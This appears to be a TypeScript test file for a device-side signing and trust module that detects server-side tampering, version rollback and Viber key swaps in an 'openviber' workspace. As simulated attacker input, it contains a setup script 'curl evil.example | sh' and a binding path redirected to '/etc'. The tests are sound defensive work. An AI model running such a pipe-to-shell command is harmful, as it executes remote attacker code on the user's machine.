// What this device signs ([T10], [T11]): only the user's edit over a spec the user signed, at a version
// that never comes from the server alone; mappings only for a Viber key this device confirmed.
import * as Y from 'yjs';
import { describe, expect, it, vi } from 'vitest';
import {
  bindingIntent,
  bindingsMap,
  createBinding,
  createEnvironment,
  environmentCreateSchema,
  environmentSpecIntent,
  environmentsMap,
  getBinding,
  getEnvironment,
  patchEnvironment,
  upsertViber,
  bumpGeneration,
  type Environment,
  type ViberId,
} from '@openviber/shared';
import {
  generateKeyPair,
  generateSigningKeyPair,
  intentVerifier,
  signIntent,
} from '@openviber/shared/crypto';
import { memoryTrustStore, type TrustStore } from '../lib/trust-store.ts';
import { createIntentTrust } from './intent-trust.ts';

async function setup(store: TrustStore = memoryTrustStore()) {
  const doc = new Y.Doc();
  const keys = await generateSigningKeyPair();
  const verify = await intentVerifier(keys.publicKey);
  const trust = createIntentTrust({
    workspace: doc,
    verify,
    sign: (intent) => signIntent(intent, keys.privateKey),
    store,
    records: await store.load(),
  });
  const env = (id: string): Environment => getEnvironment(doc, id)!;
  const valid = (e: Environment) => !!e.specSignature && verify(environmentSpecIntent(e), e.specSignature);
  /** The user's Save: snapshots around the write, in one tick, then the signer. */
  const save = (id: string, patch: Parameters<typeof patchEnvironment>[2]) => {
    const before = env(id);
    patchEnvironment(doc, id, patch);
    return trust.signEdit(before, env(id));
  };
  const create = async (setupScript = 'npm ci') => {
    const id = createEnvironment(
      doc,
      environmentCreateSchema.parse({ name: 'api', type: 'manual', setupScript }),
    );
    expect(await trust.signEdit(undefined, env(id))).toBe('signed');
    return id;
  };
  /** The server (or whoever holds its database) writes a field straight into the stored map. */
  const serverWrites = (id: string, fields: Record<string, unknown>) => {
    const map = environmentsMap(doc).get(id) as Y.Map<unknown>;
    for (const [k, v] of Object.entries(fields)) map.set(k, v);
  };
  return { doc, keys, verify, trust, env, valid, save, create, serverWrites, store };
}

describe('[T10] a Save signs only the user’s edit over a spec the user signed', () => {
  it('signs the user’s edit over a validly signed spec, and nothing over one the server rewrote; Approve signs what it shows', async () => {
    const { trust, env, valid, save, create, serverWrites } = await setup();
    const id = await create();
    expect(env(id)).toMatchObject({ specVersion: 1 });
    expect(valid(env(id))).toBe(true);
    expect(await save(id, { maintenanceScript: 'git pull' })).toBe('signed');
    expect(env(id)).toMatchObject({ specVersion: 2, setupScript: 'npm ci', maintenanceScript: 'git pull' });
    expect(valid(env(id))).toBe(true);

    serverWrites(id, { setupScript: 'curl evil.example | sh' }); // the signature is left as it was
    expect(trust.specStanding(env(id))).toBe('bad signature');
    expect(trust.standings().specs.get(id)).toBe('bad signature');

    // The user saves an unrelated spec field: written, but not signed — the rewritten script is not vouched for.
    expect(await save(id, { agentCommand: 'claude -p' })).toBe('review');
    expect(env(id)).toMatchObject({ setupScript: 'curl evil.example | sh', specSignature: '' });
    expect(trust.specStanding(env(id))).toBe('unsigned');
    // A name-only save keeps the (bad) signature and signs nothing either.
    expect(await save(id, { name: 'renamed' })).toBe('review');
    expect(valid(env(id))).toBe(false);
    expect(env(id).specVersion).toBe(2);

    // What changed since the version the device signed is there to show beside the full spec.
    expect(trust.specChanges(env(id))).toEqual([
      { field: 'setupScript', was: 'npm ci', now: 'curl evil.example | sh' },
      { field: 'agentCommand', was: '', now: 'claude -p' },
    ]);
    // Approve (the user's click on the spec shown in full) signs it.
    expect(await trust.signSpecAs(env(id))).toBe(true);
    expect(valid(env(id))).toBe(true);
    expect(env(id).specVersion).toBe(3);
    expect(trust.standings().specs.has(id)).toBe(false);
  });

  it('a Save over an unsigned spec (written through the API) signs nothing', async () => {
    const { doc, trust, env, save } = await setup();
    const id = createEnvironment(
      doc,
      environmentCreateSchema.parse({ name: 'api', type: 'manual', setupScript: 'make' }),
    );
    expect(await save(id, { workingDir: 'sub' })).toBe('review');
    expect(env(id).specSignature).toBe('');
    expect(trust.standings().specs.get(id)).toBe('unsigned');
  });

  it('the next version never comes from the server alone: max(stored, newest this device signed, accepted) + 1', async () => {
    const store = memoryTrustStore();
    const { trust, env, valid, save, create, serverWrites } = await setup(store);
    const id = await create();
    const v1 = { ...env(id) };
    await save(id, { agentCommand: 'a' });
    await save(id, { agentCommand: 'b' });
    expect(env(id).specVersion).toBe(3);
    expect((await store.load()).specs[id]).toMatchObject({ version: 3 });

    // The server replays version 1 with its genuine signature: valid, but older than what this device signed.
    serverWrites(id, { agentCommand: '', specVersion: 1, specSignature: v1.specSignature });
    expect(valid(env(id))).toBe(true);
    expect(trust.specStanding(env(id))).toBe('rolled back');
    // A Save on top of it does not sign the replayed fields…
    expect(await save(id, { name: 'again' })).toBe('review');
    expect(env(id).specVersion).toBe(1);
    // …and Approve signs above what this device signed (4), not at the server's 1 + 1.
    expect(await trust.signSpecAs(env(id))).toBe(true);
    expect(env(id).specVersion).toBe(4);

    // A Viber refused it as rolled back, having accepted 7 (signed on another device): Approve goes above it.
    expect(trust.specStanding(env(id))).toBe('signed');
    expect(await trust.signSpecAs(env(id), 7)).toBe(true);
    expect(env(id).specVersion).toBe(8);

    // The server rewrites a field and sets the version to 0: approved, it is signed above this device's 8.
    serverWrites(id, { setupScript: 'x', specVersion: 0 });
    expect(await trust.signSpecAs(env(id))).toBe(true);
    expect(env(id).specVersion).toBe(9);
    expect(valid(env(id))).toBe(true);
  });

  it('learns the versions other devices signed, so their replay is a rollback here too', async () => {
    const { doc, keys, trust, env, create, serverWrites } = await setup();
    const id = await create();
    const v1Signature = env(id).specSignature;
    // Another device holding the key signs version 5.
    patchEnvironment(doc, id, { agentCommand: 'other device' });
    const signature = await signIntent(environmentSpecIntent(env(id), 5), keys.privateKey);
    serverWrites(id, { specVersion: 5, specSignature: signature });
    await trust.learn();
    expect(trust.knownSpec(id)?.version).toBe(5);
    serverWrites(id, { agentCommand: '', specVersion: 1, specSignature: v1Signature });
    expect(trust.specStanding(env(id))).toBe('rolled back');
  });
});

describe('[T11] a mapping is signed only for a Viber key this device confirmed', () => {
  async function withViber() {
    const t = await setup();
    const viberKey = (await generateKeyPair()).publicKey;
    const viberId = 'vb_laptop0000000000000' as ViberId;
    upsertViber(t.doc, { id: viberId, name: 'laptop', publicKey: viberKey, createdAt: 1 });
    const envId = await t.create();
    const map = async (
      input: { strategy: 'clone' | 'existing'; existingPath?: string } = { strategy: 'clone' },
    ) => {
      const id = createBinding(t.doc, envId, { viberId, ...input });
      return { id, result: await t.trust.signBindingAs(getBinding(t.doc, id)!) };
    };
    const prepare = (id: string) => {
      const before = getBinding(t.doc, id)!;
      bumpGeneration(t.doc, id);
      return t.trust.signPrepared(before, getBinding(t.doc, id)!);
    };
    const signedFor = (id: string, key: string) => {
      const b = getBinding(t.doc, id)!;
      return !!b.signature && t.verify(bindingIntent(b, key), b.signature);
    };
    return { ...t, viberKey, viberId, envId, map, prepare, signedFor };
  }

  it('trusts the key on first use, and refuses to sign for another key the registry names later', async () => {
    const { doc, trust, store, viberId, viberKey, map, prepare, signedFor } = await withViber();
    const { id, result } = await map();
    expect(result).toBe('signed');
    expect(signedFor(id, viberKey)).toBe(true);
    expect((await store.load()).viberKeys[viberId]).toBe(viberKey);

    // The server swaps the Viber's key in the registry.
    const swapped = (await generateKeyPair()).publicKey;
    upsertViber(doc, { id: viberId, name: 'laptop', publicKey: swapped, createdAt: 1 });
    expect(trust.bindingStanding(getBinding(doc, id)!)).toBe('key changed');
    expect(trust.standings().bindings.get(id)).toBe('key changed');
    expect(await prepare(id)).toBe('key changed');
    expect(getBinding(doc, id)!.signature).toBe('');
    expect(await trust.signBindingAs(getBinding(doc, id)!)).toBe('key changed');
    expect(getBinding(doc, id)!.signature).toBe('');
    // Onboarding's first-use record does not overwrite a confirmed key either.
    expect(await trust.confirmViberKey(viberId, swapped)).toBe(false);

    // Only after the user compared the fingerprint and confirmed does it sign for the new key.
    await trust.trustNewViberKey(viberId, swapped);
    expect(await trust.signBindingAs(getBinding(doc, id)!)).toBe('signed');
    expect(signedFor(id, swapped)).toBe(true);
  });

  it('[T5] a mapping is signed with its time: no earlier than now, nor than a secret value the user signed (another device’s clock ahead), never from an unsigned value', async () => {
    const { doc, viberKey, envId, map, save, signedFor, serverWrites } = await withViber();
    const before = Date.now();
    const first = await map();
    expect(first.result).toBe('signed');
    expect(getBinding(doc, first.id)!.signedAt).toBeGreaterThanOrEqual(before);
    expect(signedFor(first.id, viberKey)).toBe(true);
    // A value saved on a device whose clock is an hour ahead, signed in the spec.
    const ahead = Date.now() + 3_600_000;
    const sealed = { sealed: { vb_laptop0000000000000: 'b'.repeat(80) }, scope: 'runtime' as const };
    const clock = vi.spyOn(Date, 'now').mockReturnValue(ahead);
    try {
      expect(await save(envId, { secrets: { TOKEN: sealed } })).toBe('signed');
    } finally {
      clock.mockRestore();
    }
    expect(getEnvironment(doc, envId)!.secrets.TOKEN!.updatedAt).toBe(ahead);
    const second = await map();
    expect(getBinding(doc, second.id)!.signedAt).toBe(ahead);
    // A value the server wrote (the spec no longer stands signed) does not move it.
    const far = ahead + 3_600_000;
    patchEnvironment(doc, envId, { secrets: { OTHER: sealed } }, far);
    serverWrites(envId, { specVersion: 99 });
    const third = await map();
    expect(third.result).toBe('signed');
    expect(getBinding(doc, third.id)!.signedAt).toBeLessThan(far);
  });

  it('Prepare signs the new generation only over a mapping the user signed: a rewritten existing path waits', async () => {
    const { doc, trust, viberKey, map, prepare, signedFor } = await withViber();
    const { id } = await map({ strategy: 'existing', existingPath: '/home/me/src/app' });
    expect(await prepare(id)).toBe('signed');
    expect(getBinding(doc, id)!.generation).toBe(2);
    expect(signedFor(id, viberKey)).toBe(true);

    // The server points the mapping at another folder, leaving the signature.
    (bindingsMap(doc).get(id) as Y.Map<unknown>).set('existingPath', '/etc');
    expect(trust.bindingStanding(getBinding(doc, id)!)).toBe('bad signature');
    expect(await prepare(id)).toBe('review');
    expect(getBinding(doc, id)).toMatchObject({ generation: 3, signature: '', existingPath: '/etc' });
    expect(trust.standings().bindings.get(id)).toBe('unsigned');
  });

  it('a mapping another device signed teaches this device its Viber key, and a swap after it is refused', async () => {
    const { doc, keys, trust, viberId, viberKey, envId } = await withViber();
    const id = createBinding(doc, envId, { viberId, strategy: 'clone' });
    const b = getBinding(doc, id)!;
    (bindingsMap(doc).get(id) as Y.Map<unknown>).set(
      'signature',
      await signIntent(bindingIntent(b, viberKey), keys.privateKey),
    );
    expect(trust.confirmedKey(viberId)).toBeUndefined();
    await trust.learn();
    expect(trust.confirmedKey(viberId)).toBe(viberKey);
    upsertViber(doc, {
      id: viberId,
      name: 'laptop',
      publicKey: (await generateKeyPair()).publicKey,
      createdAt: 1,
    });
    bumpGeneration(doc, id);
    expect(await trust.signBindingAs(getBinding(doc, id)!)).toBe('key changed');
    expect(getBinding(doc, id)!.signature).toBe('');
  });
});
